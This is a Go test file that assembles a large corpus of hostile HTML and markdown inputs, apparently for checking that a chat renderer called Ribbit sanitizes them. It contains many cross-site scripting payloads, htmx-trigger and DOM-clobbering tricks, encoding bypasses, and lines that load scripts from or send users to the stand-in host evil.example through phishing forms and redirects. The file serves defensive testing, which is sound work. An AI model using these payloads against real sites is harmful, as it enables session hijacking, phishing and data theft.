package attack_test

import (
	"slices"
	"strings"
)

// cores would each run a script, draw a foreign element or lead elsewhere if a page took them for markup. A script that
// runs sets __pwned.
var cores = []string{
	`<script>__pwned=1</script>`,
	`<img src=x onerror=__pwned=1>`,
	`<svg/onload=__pwned=1>`,
	`"><svg onload="__pwned=1">`,
	`'><img src=x onerror='__pwned=1'>`,
	`<a href="javascript:__pwned=1">click</a>`,
	`<b hx-get="/logout" hx-trigger="load">b</b>`,
	`<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>`,
	`</template><script>__pwned=1</script>`,
	`<div data-frame="unread" data-count="99"></div>`,
	`<form action="https://evil.example"><button>Sign in</button></form>`,
}

// wraps are the marks of Ribbit around a text.
var wraps = []func(string) string{
	func(s string) string { return "**" + s + "**" },
	func(s string) string { return "*" + s + "*" },
	func(s string) string { return "~~" + s + "~~" },
	func(s string) string { return "`" + s + "`" },
	func(s string) string { return "```html\n" + s + "\n```" },
	func(s string) string { return "```" + s + "\n" + s + "\n```" },
	func(s string) string { return "> " + s },
	func(s string) string { return ">!" + s + "!<" },
	func(s string) string { return "- " + s + "\n- " + s },
	func(s string) string { return "1. " + s },
	func(s string) string { return "https://pond.example/" + s },
	func(s string) string { return "https://pond.example/?q=\"" + s },
	func(s string) string { return strings.ToUpper(s) },
}

// others are no variations of one another.
var others = []string{
	`<ScRiPt>__pwned=1</sCrIpT>`, `<script/x>__pwned=1</script>`, `<script src=//evil.example/x.js></script>`, `<script src=data:,__pwned=1></script>`,
	`<script type=module>__pwned=1</script>`, `<<script>__pwned=1//<</script>`, `<scr<script>ipt>__pwned=1</scr</script>ipt>`, `<script>__pwned=1`,
	`</script><script>__pwned=1</script>`, `</title><script>__pwned=1</script>`, `</textarea><script>__pwned=1</script>`, `</style><script>__pwned=1</script>`,
	`--><script>__pwned=1</script><!--`, `]]><script>__pwned=1</script>`, `<!--<script>__pwned=1</script>-->`, `<?xml version="1.0"?><x onload=__pwned=1>`,
	`<img src=x:x onerror=__pwned=1//`, `<img/src=x/onerror=__pwned=1>`, "<img src=x\nonerror\n=\n__pwned=1>", "<img\tsrc=x\tonerror=__pwned=1>", "<img src=`x`onerror=__pwned=1>",
	`<img src="javascript:__pwned=1">`, `<img src=https://evil.example/pixel.gif>`, `<img srcset="https://evil.example/1.png 1x">`, `<image src=x onerror=__pwned=1>`,
	`<input autofocus onfocus=__pwned=1>`, `<select autofocus onfocus=__pwned=1>`, `<textarea autofocus onfocus=__pwned=1>`, `<keygen autofocus onfocus=__pwned=1>`,
	`<video><source onerror=__pwned=1></video>`, `<video src=x onerror=__pwned=1>`, `<audio src=x onerror=__pwned=1>`, `<object data="javascript:__pwned=1">`,
	`<object data=data:text/html,<script>__pwned=1</script>>`, `<embed src="javascript:__pwned=1">`, `<embed src=data:image/svg+xml,<svg/onload=__pwned=1>>`,
	`<iframe src="javascript:__pwned=1">`, `<iframe src=data:text/html,<script>__pwned=1</script>>`, `<frameset onload=__pwned=1>`, `<body onload=__pwned=1>`,
	`<body onpageshow=__pwned=1>`, `<html onmouseover=__pwned=1>`, `<marquee onstart=__pwned=1>x</marquee>`, `<details open ontoggle=__pwned=1>x</details>`,
	`<dialog open onclose=__pwned=1><form method=dialog><button>x</button></form></dialog>`, `<button popovertarget=x onclick=__pwned=1>x</button><div id=x popover onbeforetoggle=__pwned=1>x</div>`,
	`<x onclick=__pwned=1 onmouseover=__pwned=1 onfocus=__pwned=1 tabindex=0>x</x>`, `<x contenteditable oninput=__pwned=1>x</x>`, `<x style="animation:x 1s" onanimationend=__pwned=1>x</x>`,
	`<svg><script>__pwned=1</script></svg>`, `<svg><a xlink:href="javascript:__pwned=1"><text y=20>x</text></a></svg>`, `<svg><animate attributeName=href values="javascript:__pwned=1" /></svg>`,
	`<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>__pwned=1</script></svg>#x"/></svg>`, `<svg><foreignObject><script>__pwned=1</script></foreignObject></svg>`,
	`<svg><set attributeName=onmouseover to=__pwned=1></svg>`, `<math><mi xlink:href="javascript:__pwned=1">x</mi></math>`, `<math><mtext><table><mglyph><style><img src=x onerror=__pwned=1>`,
	`<base href="https://evil.example/">`, `<meta http-equiv=refresh content="0;url=https://evil.example/">`, `<meta http-equiv=Content-Security-Policy content="script-src *">`,
	`<link rel=stylesheet href=https://evil.example/x.css>`, `<link rel=import href=https://evil.example/x>`, `<style>@import url(https://evil.example/x.css);</style>`,
	`<style>body{display:none}</style>`, `<p style="background:url(javascript:__pwned=1)">x</p>`, `<p style="position:fixed;inset:0;z-index:9999">x</p>`, `<div style=width:expression(__pwned=1)>`,
	`<a href=javascript:__pwned=1>x</a>`, "<a href=\"java\nscript:__pwned=1\">x</a>", `<a href="jav&#x09;ascript:__pwned=1">x</a>`, `<a href="&#106;avascript:__pwned=1">x</a>`, `<a href="data:text/html,<script>__pwned=1</script>">x</a>`,
	`<a href="vbscript:msgbox(1)">x</a>`, `<a href=https://evil.example target=_self>Your session has ended. Sign in</a>`, `<a ping=https://evil.example href=/>x</a>`, `<area href="javascript:__pwned=1">`,
	`javascript:__pwned=1`, `JaVaScRiPt:__pwned=1//https://pond.example`, `javascript://pond.example/%0a__pwned=1`, `data:text/html,<script>__pwned=1</script>`, `vbscript:msgbox(1)`, `https://pond.example/"onmouseover="__pwned=1`,
	`https://pond.example/'onmouseover='__pwned=1`, `https://pond.example/><script>__pwned=1</script>`, "https://pond.example/`onmouseover=__pwned=1`", `http://javascript:__pwned=1@evil.example`, `https://x:y@evil.example/`,
	`[x](javascript:__pwned=1)`, `[x](https://pond.example "onmouseover=__pwned=1")`, `![x](x" onerror="__pwned=1)`, `<javascript:__pwned=1>`, `[x]: javascript:__pwned=1`, `<https://pond.example/"onclick="__pwned=1">`,
	`<div hx-get="/settings" hx-trigger="load" hx-target="body">x</div>`, `<div data-hx-post="/logout" data-hx-trigger="load">x</div>`, `<div hx-on:load="__pwned=1">x</div>`, `<div hx-on::after-settle="__pwned=1">x</div>`,
	`<div hx-vals="js:{x:__pwned=1}" hx-get=/ hx-trigger=load>x</div>`, `<div id="messages" hx-swap-oob="true">x</div>`, `<div hx-swap-oob="innerHTML:body">x</div>`, `<hx-partial hx-target="body">x</hx-partial>`,
	`<li class="message" id="message-1" data-seq="1">x</li>`, `<div data-behavior="composer">x</div>`, `<template id="message-template"><script>__pwned=1</script></template>`, `<form id="composer" action="https://evil.example">x</form>`,
	`</li></ol></section></main><h1>x</h1>`, `</div></div></div></li><script>__pwned=1</script>`, `<div data-frame="error" data-code="unauthenticated">x</div>`, `<div data-frame="stale" data-thread="1">x</div>`,
	`<input name=__proto__>`, `<form><input name=parentNode><input name=attributes></form>`, `<img name=getElementById>`, `<a id=documentElement></a><a id=documentElement name=dataset></a>`, `<img id=htmx>`,
	`{{constructor.constructor('__pwned=1')()}}`, `${__pwned=1}`, `<%= __pwned=1 %>`, `#{__pwned=1}`, `{{7*7}}`, "`-__pwned=1-`", `';__pwned=1;//`, `";__pwned=1;//`, `\";__pwned=1;//`, `</script>`, `&lt;script&gt;__pwned=1&lt;/script&gt;`,
	`&#60;script&#62;__pwned=1&#60;/script&#62;`, `%3Cscript%3E__pwned=1%3C/script%3E`, `\u003cscript\u003e__pwned=1\u003c/script\u003e`, `＜script＞__pwned=1＜/script＞`, `‹script›__pwned=1‹/script›`, `+ADw-script+AD4-__pwned=1+ADw-/script+AD4-`,
	"<scr\u200bipt>__pwned=1</script>", "<\u2028script>__pwned=1</script>", "\u202e>tpircs<1=denwp__>tpircs/<", "<script\u3000>__pwned=1</script>", "<img src=x onerror\u00a0=__pwned=1>",
	strings.Repeat("<b>", 2000), strings.Repeat("</div>", 1500), strings.Repeat("**<b>", 1000), strings.Repeat("> ", 2000) + "<script>__pwned=1</script>", strings.Repeat(">!", 2000) + "<img src=x onerror=__pwned=1>",
	strings.Repeat("\u0300", 3000) + "<script>__pwned=1</script>", "```\n</code></pre><script>__pwned=1</script>", "```\"onmouseover=\"__pwned=1\nx\n```", ":happy:<script>__pwned=1</script>", `:"><script>__pwned=1</script>:`, "🐸<script>__pwned=1</script>",
	`@ada"><script>__pwned=1</script>`, `{"event":"chat","data":{"content":"<script>__pwned=1</script>"}}`, `<noscript><p title="</noscript><img src=x onerror=__pwned=1>">`, `<xmp><p title="</xmp><svg/onload=__pwned=1>">`, `<plaintext>`,
	`<table background="javascript:__pwned=1">`, `<isindex action="javascript:__pwned=1" type=submit>`, `<applet code=x onerror=__pwned=1>`, `<portal src=https://evil.example>`, `<fencedframe src=https://evil.example></fencedframe>`,
	`<slot onslotchange=__pwned=1>`, `<div slot=x><template shadowrootmode=open><script>__pwned=1</script></template></div>`, `<x is="x-y" onconnected=__pwned=1>`,
}

// hostile are all of them, no two alike.
var hostile = func() []string {
	list := slices.Concat(cores, others)
	for _, wrap := range wraps {
		for _, core := range cores {
			list = append(list, wrap(core))
		}
	}
	slices.Sort(list)
	return slices.Compact(list)
}()
